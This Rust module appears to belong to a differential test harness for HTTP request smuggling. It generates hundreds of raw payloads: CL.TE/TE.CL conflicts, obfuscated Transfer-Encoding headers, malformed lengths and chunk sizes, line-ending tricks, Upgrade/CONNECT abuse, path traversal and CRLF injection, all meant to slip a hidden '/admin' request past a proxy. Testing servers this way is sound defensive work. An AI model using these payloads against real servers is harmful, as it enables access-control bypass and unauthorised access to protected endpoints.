//! The attacks: what a client sends so that two servers disagree about where a request ends.

/// One connection's worth of bytes. `{P}` stands for the path that is proxied, `{NN}` for the
/// number of the case.
pub(crate) struct Case {
    pub(crate) name: String,
    bytes: Vec<u8>,
}

impl Case {
    /// The bytes for `way`, with an ordinary request behind them.
    pub(crate) fn bytes(&self, way: &str, number: usize) -> Vec<u8> {
        let probe = b"GET {P}/probe HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n";
        let number = FIRST + number;
        let path = format!("/{way}/{number}");
        let bytes = [&self.bytes[..], probe].concat();
        let bytes = replace(&bytes, b"{P}", path.as_bytes());
        replace(&bytes, b"{NN}", number.to_string().as_bytes())
    }
}

/// The number of the first case.
pub(crate) const FIRST: usize = 1000;

fn replace(bytes: &[u8], mark: &[u8], by: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len());
    let mut rest = bytes;
    while let Some(at) = rest.windows(mark.len()).position(|part| part == mark) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(by);
        rest = &rest[at + mark.len()..];
    }
    out.extend_from_slice(rest);
    out
}

/// The request that nobody may make. `{NN}` is as long as four digits, so that lengths hold.
const HIDDEN: &str = "GET /admin/{NN} HTTP/1.1\r\nHost: h\r\nX-Secret: secret\r\n\r\n";

const POST: &str = "POST {P} HTTP/1.1\r\nHost: h\r\n";

fn case(name: impl Into<String>, bytes: impl AsRef<[u8]>) -> Case {
    Case {
        name: name.into(),
        bytes: bytes.as_ref().to_vec(),
    }
}

/// Chunks with the hidden request in them.
fn chunked() -> String {
    // The number takes as many bytes as its place holder.
    format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len())
}

/// What is a whole body in chunks to one, and a request behind it to another.
fn ended() -> String {
    format!("0\r\n\r\n{HIDDEN}")
}

/// All of them. Their numbers have four digits, so that each is as long as its place holder.
pub(crate) fn all() -> Vec<Case> {
    let mut cases = Vec::new();
    cases.extend(two_lengths());
    cases.extend(hidden_codings());
    cases.extend(odd_bytes());
    cases.extend(lengths());
    cases.extend(chunks());
    cases.extend(unread_bodies());
    cases.extend(lines());
    cases.extend(upgrades());
    cases.extend(versions());
    cases.extend(trailers());
    cases
}

/// S-1: both a length and chunks.
fn two_lengths() -> Vec<Case> {
    let te = "Transfer-Encoding: chunked\r\n";
    let all = format!("Content-Length: {}\r\n", ended().len());
    vec![
        case("CL.TE", format!("{POST}{all}{te}\r\n{}", ended())),
        case(
            "TE.CL",
            format!("{POST}{te}Content-Length: 4\r\n\r\n{}", chunked()),
        ),
        case(
            "CL.TE of nothing",
            format!("{POST}Content-Length: 0\r\n{te}\r\n{}", chunked()),
        ),
        case(
            "TE.CL of nothing",
            format!("{POST}{te}Content-Length: 0\r\n\r\n{}", chunked()),
        ),
        case(
            "GET CL.TE",
            format!("GET {{P}} HTTP/1.1\r\nHost: h\r\n{all}{te}\r\n{}", ended()),
        ),
        case(
            "old TE",
            format!("POST {{P}} HTTP/1.0\r\nHost: h\r\n{te}\r\n{}", chunked()),
        ),
        case(
            "old CL.TE",
            format!(
                "POST {{P}} HTTP/1.0\r\nConnection: keep-alive\r\n{all}{te}\r\n{}",
                ended()
            ),
        ),
        case(
            "Connection lists CL",
            format!("{POST}{all}Connection: Content-Length\r\n\r\n{}", ended()),
        ),
        case(
            "Connection lists TE",
            format!(
                "{POST}{te}Connection: Transfer-Encoding\r\n\r\n{}",
                chunked()
            ),
        ),
    ]
}

/// Each of `fields` with a length of all of the body and one of its first line, and without.
fn both_ways(name: &str, field: &[u8]) -> Vec<Case> {
    let with = |length: String, body: &str| {
        let head = [POST.as_bytes(), field, b"\r\n", length.as_bytes(), b"\r\n"].concat();
        case(
            format!("{name}: {}", field.escape_ascii()),
            [&head, body.as_bytes()].concat(),
        )
    };
    vec![
        with(format!("Content-Length: {}\r\n", ended().len()), &ended()),
        with("Content-Length: 4\r\n".to_owned(), &chunked()),
        with(String::new(), &chunked()),
    ]
}

/// S-2: chunks that one server sees and another does not.
fn hidden_codings() -> Vec<Case> {
    let fields: [&[u8]; 36] = [
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding: chunkedx",
        b"Transfer-Encoding: \"chunked\"",
        b"Transfer-Encoding: 'chunked'",
        b"Transfer-Encoding: chunked;a=b",
        b"Transfer-Encoding: ,chunked",
        b"Transfer-Encoding: chunked,",
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked, gzip",
        b"Transfer-Encoding: chunked, chunked",
        b"Transfer-Encoding: CHUNKED",
        b"Transfer-Encoding: chunk",
        b"Transfer-Encoding:",
        b"Transfer-Encoding:chunked",
        b"TRANSFER-ENCODING: chunked",
        b"Transfer_Encoding: chunked",
        b"Transfer-Encoding : chunked",
        b" Transfer-Encoding: chunked",
        b"\tTransfer-Encoding: chunked",
        b"Transfer Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"X: y\r\n Transfer-Encoding: chunked",
        b"X:\r\n\tTransfer-Encoding: chunked",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding:\n chunked",
        b"Transfer-Encoding: x\r\n chunked",
        b"Transfer-Encoding: chunked\r\n x",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding",
        b"Transfer-Encoding\r\n: chunked",
    ];
    let of_one = |field: &&[u8]| both_ways("TE", field);
    fields.iter().flat_map(of_one).collect()
}

/// S-2 again: every byte with a meaning to somebody, at every place in the line.
fn odd_bytes() -> Vec<Case> {
    let bytes = (0..=b' ').chain([b'"', b'\'', b'(', b',', b'-', b':', b';', b'=', b'\\', b'_']);
    let bytes = bytes.chain([0x7f, 0x80, 0x85, 0xa0, 0xc2, 0xff]);
    bytes
        .flat_map(|byte| {
            let at = [&b"Transfer-Encoding"[..], b":", b" chunked"];
            (0..=3).flat_map(move |place| {
                let mut parts: Vec<&[u8]> = at.to_vec();
                let odd = [byte];
                parts.insert(place, &odd);
                both_ways("odd TE", &parts.concat())
            })
        })
        .collect()
}

/// S-3: lengths that are read in two ways.
fn lengths() -> Vec<Case> {
    let len = HIDDEN.len();
    let values = [
        format!("+{len}"),
        format!("-{len}"),
        "-1".to_owned(),
        format!("0x{len:x}"),
        format!("{len:x}h"),
        format!("0{len}"),
        format!("00000000000000000000{len}"),
        format!("{len},{len}"),
        format!("{len}, 0"),
        format!("0, {len}"),
        format!("{len} 0"),
        format!("0 {len}"),
        format!("{len}\t"),
        format!("\u{b}{len}"),
        format!("\0{len}"),
        format!("{len}\0"),
        format!("{len}_0"),
        format!("{len}.0"),
        format!("{len};x"),
        format!("{len}\r\nContent-Length: 0"),
        format!("0\r\nContent-Length: {len}"),
        format!("{len}\r\nContent-Length: {len}"),
        format!("\r\n {len}"),
        format!("0\r\n {len}"),
        format!("{len}\r\n 0"),
        String::new(),
        "18446744073709551616".to_owned(),
        "9223372036854775808".to_owned(),
        "4294967296".to_owned(),
        format!("184467440737095516{len}"),
        "abc".to_owned(),
        "\u{661}".to_owned(),
        "1e1".to_owned(),
    ];
    let of_value = |value: &String| {
        let shown = value.escape_default();
        let named = |name: &str, head: &str| {
            case(
                format!("{name} {shown}"),
                format!("{head}Content-Length: {value}\r\n\r\n{HIDDEN}"),
            )
        };
        [
            named("CL", POST),
            named("GET CL", "GET {P} HTTP/1.1\r\nHost: h\r\n"),
        ]
    };
    let spellings = [
        "Content-Length : 0",
        "Content_Length: 0",
        " Content-Length: 0",
        "Content-Length\0: 0",
    ];
    let of_spelling = |field: &&str| {
        let body = format!("{POST}Content-Length: {len}\r\n{field}\r\n\r\n{HIDDEN}");
        case(format!("CL and {}", field.escape_default()), body)
    };
    let all = values.iter().flat_map(of_value);
    all.chain(spellings.iter().map(of_spelling)).collect()
}

/// S-4 and S-5: chunks that end in two places, and what may stand behind their sizes.
fn chunks() -> Vec<Case> {
    let size = format!("{:x}", HIDDEN.len());
    let whole = |size: &str, after: &str| format!("{size}\r\n{HIDDEN}{after}0\r\n\r\n");
    let bodies = [
        whole(&format!("+{size}"), "\r\n"),
        whole(&format!("-{size}"), "\r\n"),
        whole(&format!("0x{size}"), "\r\n"),
        whole(&format!("{size}_"), "\r\n"),
        whole(&format!(" {size}"), "\r\n"),
        whole(&format!("{size} "), "\r\n"),
        whole(&format!("{size} 0"), "\r\n"),
        whole(&format!("0 {size}"), "\r\n"),
        whole(&format!("{size}\t"), "\r\n"),
        whole(&format!("{size}\0"), "\r\n"),
        whole(&format!("\0{size}"), "\r\n"),
        whole(&format!("000000000000000000000{size}"), "\r\n"),
        whole(&format!("100000000000000{size}"), "\r\n"),
        whole(&format!("ffffffffffffff{size}"), "\r\n"),
        whole(&format!("1000000000000000{size}"), "\r\n"),
        whole(&size, ""),
        whole(&size, "\n"),
        whole(&size, "\r"),
        whole(&size, "xx"),
        whole(&size, "\r\n\r\n"),
        format!("{size}\n{HIDDEN}\n0\n\n"),
        format!("{size}\r{HIDDEN}\r0\r\r"),
        format!("{size};\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("{size};a\nb\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("{size};a\rb\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("{size};a\0b\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("{size};a=\"\r\n0\r\n\r\n{HIDDEN}\"\r\n"),
        format!("{size};a=\"b\"\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("2;\r\nxx\r\n{size}\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("2;\n\r\nxx\r\n0\r\n\r\n{HIDDEN}"),
        format!("0;a\n\r\n\r\n{HIDDEN}"),
        format!("0\r\n\n{HIDDEN}"),
        format!("0\n\r\n{HIDDEN}"),
        format!("0\r\r\n\r\n{HIDDEN}"),
        format!("5;{}\r\nhello\r\n0\r\n\r\n{HIDDEN}", "x".repeat(65_536)),
        format!("1\r\nx{HIDDEN}\r\n0\r\n\r\n"),
        format!("\r\n{size}\r\n{HIDDEN}\r\n0\r\n\r\n"),
        format!("0\r\n{HIDDEN}"),
        format!("0\r\nX:{HIDDEN}"),
        format!("0\r\n {HIDDEN}"),
    ];
    let head = format!("{POST}Transfer-Encoding: chunked\r\n\r\n");
    let of_body = |body: &String| {
        let shown: String = body.chars().take(60).collect();
        case(
            format!("chunks {}", shown.escape_default()),
            format!("{head}{body}"),
        )
    };
    bodies.iter().map(of_body).collect()
}

/// S-6: bodies of requests that have none for most.
fn unread_bodies() -> Vec<Case> {
    let methods = [
        "GET", "HEAD", "OPTIONS", "DELETE", "PUT", "PATCH", "TRACE", "PROPFIND", "FOO",
    ];
    let length = format!("Content-Length: {}\r\n", HIDDEN.len());
    let te = "Transfer-Encoding: chunked\r\n";
    let mut cases = Vec::new();
    for method in methods {
        for (name, fields, body) in [
            ("CL", length.as_str(), HIDDEN.to_owned()),
            ("TE", te, chunked()),
            ("nothing", "", HIDDEN.to_owned()),
            ("zero", "Content-Length: 0\r\n", HIDDEN.to_owned()),
            (
                "Expect",
                &format!("{length}Expect: 100-continue\r\n"),
                HIDDEN.to_owned(),
            ),
            (
                "Expect TE",
                &format!("{te}Expect: 100-continue\r\n"),
                chunked(),
            ),
            (
                "odd Expect",
                &format!("{length}Expect: y 100-continue\r\n"),
                HIDDEN.to_owned(),
            ),
            (
                "Expect 200",
                &format!("{length}Expect: 200-ok\r\n"),
                HIDDEN.to_owned(),
            ),
        ] {
            let text = format!("{method} {{P}} HTTP/1.1\r\nHost: h\r\n{fields}\r\n{body}");
            cases.push(case(format!("{method} with {name}"), text));
        }
    }
    // Answered here, and never passed on: what is left is still no request.
    for path in ["/admin/x", "/none", "*", "/%2e%2e/..", "http://h/admin/x"] {
        for (fields, body) in [(length.as_str(), HIDDEN.to_owned()), (te, chunked())] {
            let text = format!("POST {path} HTTP/1.1\r\nHost: h\r\n{fields}\r\n{body}");
            cases.push(case(format!("POST {path}"), text));
        }
    }
    cases
}

/// S-7: lines that end in two places.
fn lines() -> Vec<Case> {
    let get = "GET {P} HTTP/1.1\r\nHost: h\r\n";
    let inner = "GET /admin/{NN} HTTP/1.1\rHost: h\r\rX-Secret: secret\r\r";
    let fields = [
        format!("X: y\r\r{inner}"),
        format!("X: y\n\n{HIDDEN}"),
        format!("X: y\n\r\n{HIDDEN}"),
        format!("X: y\r\n\n{HIDDEN}"),
        format!("X: y\r\n \r\n\r\n{HIDDEN}"),
        format!("X: y\0\r\n\r\n{HIDDEN}"),
        format!("X: {HIDDEN}"),
        format!("X: y\u{85}{HIDDEN}"),
        format!("X: y\u{2028}{HIDDEN}"),
        format!("X y\r\n\r\n{HIDDEN}"),
        format!(": y\r\n\r\n{HIDDEN}"),
        format!("X : y\r\n\r\n{HIDDEN}"),
        format!("\r\n{HIDDEN}"),
        format!("\n{HIDDEN}"),
        format!("\r{HIDDEN}"),
    ];
    let firsts = [
        format!("GET {{P}}\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}} HTTP/1.1 HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}} GET /admin/{{NN}} HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}}\tHTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}}\0 HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}}?a\rb HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}}?\r\n HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        "GET {P}?%0d%0aX-Secret:%20secret HTTP/1.1\r\nHost: h\r\n\r\n".to_owned(),
        "GET {P}%20HTTP/1.1%0d%0aX-Secret:%20secret%0d%0a HTTP/1.1\r\nHost: h\r\n\r\n".to_owned(),
        "GET {P}/../../admin/{NN} HTTP/1.1\r\nHost: h\r\n\r\n".to_owned(),
        "GET {P}/..%2f..%2fadmin/{NN}x HTTP/1.1\r\nHost: h\r\n\r\n".to_owned(),
        format!("\r\n\r\nGET {{P}} HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!(" GET {{P}} HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}} HTTP/1.1\r\n Host: h\r\n\r\n{HIDDEN}"),
        format!("GET {{P}} HTTP/1.1\r\nHost: h\r\nHost: i\r\n\r\n{HIDDEN}"),
        format!("GET {{P}} HTTP/1.1\r\nHost: h/admin\r\n\r\n{HIDDEN}"),
    ];
    let of_field = |field: &String| {
        case(
            format!("line {}", field.escape_debug()),
            format!("{get}{field}"),
        )
    };
    let of_first = |text: &String| case(format!("first line {}", text.escape_debug()), text);
    fields
        .iter()
        .map(of_field)
        .chain(firsts.iter().map(of_first))
        .collect()
}

/// S-8: bytes behind a request to change the protocol.
fn upgrades() -> Vec<Case> {
    let length = format!("Content-Length: {}\r\n", HIDDEN.len());
    let websocket = "Upgrade: websocket\r\nConnection: Upgrade\r\n\
                     Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n";
    let h2c = "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n";
    let mut cases = Vec::new();
    for (name, fields) in [
        ("websocket", websocket),
        ("h2c", h2c),
        ("TLS", "Upgrade: TLS/1.0\r\nConnection: Upgrade\r\n"),
    ] {
        for method in ["GET", "POST", "OPTIONS"] {
            let head = format!("{method} {{P}} HTTP/1.1\r\nHost: h\r\n{fields}");
            cases.push(case(
                format!("{method} {name}"),
                format!("{head}\r\n{HIDDEN}"),
            ));
            cases.push(case(
                format!("{method} {name} CL"),
                format!("{head}{length}\r\n{HIDDEN}"),
            ));
            cases.push(case(
                format!("{method} {name} TE"),
                format!("{head}Transfer-Encoding: chunked\r\n\r\n{}", chunked()),
            ));
        }
    }
    for target in ["h:80", "{P}", "/"] {
        let text = format!("CONNECT {target} HTTP/1.1\r\nHost: h\r\n\r\n{HIDDEN}");
        cases.push(case(format!("CONNECT {target}"), text));
        let text = format!("CONNECT {target} HTTP/1.1\r\nHost: h\r\n{length}\r\n{HIDDEN}");
        cases.push(case(format!("CONNECT {target} CL"), text));
    }
    cases.push(case(
        "the preface of HTTP/2",
        format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{HIDDEN}"),
    ));
    cases
}

/// S-12: versions that are none.
fn versions() -> Vec<Case> {
    let length = format!("Content-Length: {}\r\n", HIDDEN.len());
    let versions = [
        "HTTP/0.9",
        "HTTP/1.0",
        "HTTP/1.2",
        "HTTP/1.9",
        "HTTP/2.0",
        "HTTP/3",
        "HTTP/11.1",
        "HTTP/1.10",
        "HTTP/01.1",
        "HTTP/1.",
        "HTTP/1",
        "HTTP/1.1x",
        "http/1.1",
        "HTTP/1.99999999999",
        "HTTP/-1.1",
        "ICAP/1.0",
        "HTTP",
    ];
    let of_one = |version: &&str| {
        let head = format!("POST {{P}} {version}\r\nHost: h\r\n");
        [
            case(*version, format!("{head}{length}\r\n{HIDDEN}")),
            case(
                format!("{version} TE"),
                format!("{head}Transfer-Encoding: chunked\r\n\r\n{}", chunked()),
            ),
        ]
    };
    versions.iter().flat_map(of_one).collect()
}

/// S-13: fields behind the body that would have a meaning before it.
fn trailers() -> Vec<Case> {
    let fields = [
        "X-Secret: secret",
        "Content-Length: 0",
        "Content-Length: 1000",
        "Transfer-Encoding: chunked",
        "Transfer-Encoding: identity",
        "Host: admin",
        "Connection: X-Secret",
        "Upgrade: websocket",
        "Content_Length: 1000",
        "Transfer-Encoding : chunked",
        "X: y\rContent-Length: 1000",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\n\nGET /admin HTTP/1.1\nHost: h\n",
        "X: y\r\rGET /admin HTTP/1.1",
        "X: y\0",
        "X: y\r\n GET /admin HTTP/1.1",
    ];
    let of_one = |field: &&str| {
        let head = format!("{POST}Transfer-Encoding: chunked\r\n");
        [
            case(
                format!("trailer {field}"),
                format!("{head}\r\n1\r\nx\r\n0\r\n{field}\r\n\r\n"),
            ),
            case(
                format!("announced trailer {field}"),
                format!(
                    "{head}Trailer: X-Secret\r\nTE: trailers\r\n\r\n1\r\nx\r\n0\r\n{field}\r\n\r\n{HIDDEN}"
                ),
            ),
        ]
    };
    fields.iter().flat_map(of_one).collect()
}
